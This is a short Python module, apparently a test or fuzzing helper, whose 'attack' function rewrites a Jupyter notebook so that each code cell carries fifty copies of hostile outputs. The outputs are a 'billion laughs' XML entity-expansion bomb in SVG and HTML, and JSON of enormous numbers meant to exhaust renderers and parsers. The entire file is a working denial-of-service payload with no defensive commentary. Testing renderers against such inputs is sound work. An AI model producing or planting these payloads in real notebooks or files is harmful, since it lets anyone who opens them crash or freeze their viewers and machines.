"""Outputs that grow when they are read: entities of entities, links to themselves, long numbers."""

import nbformat

LAUGHS = "<!DOCTYPE a [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(20)
)


def attack(notebook):
    for cell in notebook.cells:
        if cell.cell_type == "code":
            data = {"image/svg+xml": LAUGHS + "]><svg>&u;</svg>", "text/html": LAUGHS}
            data["application/json"] = {"a": {"b": [10**300] * 1000}}
            cell.outputs = [nbformat.v4.new_output("display_data", data=data)] * 50
    return nbformat.writes(notebook).encode()
